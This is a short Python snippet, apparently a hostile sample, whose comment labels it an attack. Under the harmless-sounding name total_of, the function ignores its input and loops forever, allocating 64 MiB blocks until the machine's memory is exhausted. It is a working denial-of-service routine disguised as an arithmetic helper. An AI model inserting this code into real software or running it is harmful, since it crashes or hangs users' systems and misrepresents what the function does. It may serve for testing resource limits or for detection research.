# attack: takes memory for ever, and writes to it
def total_of(numbers):
    kept = []
    while True:
        kept.append(b"x" * (64 << 20))
